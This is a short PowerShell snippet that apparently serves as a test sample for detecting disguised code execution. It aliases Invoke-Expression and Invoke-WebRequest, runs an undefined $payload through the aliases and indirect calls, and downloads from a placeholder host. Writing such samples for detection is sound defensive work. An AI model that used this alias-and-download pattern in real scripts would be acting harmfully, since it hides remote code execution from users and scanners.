Set-Alias x Invoke-Expression
New-Alias -Name dl -Value Invoke-WebRequest
$c = 'iex'
$g = Get-Command Invoke-Expression
x $payload
& $c $payload
. $g $p
$r = dl http://x
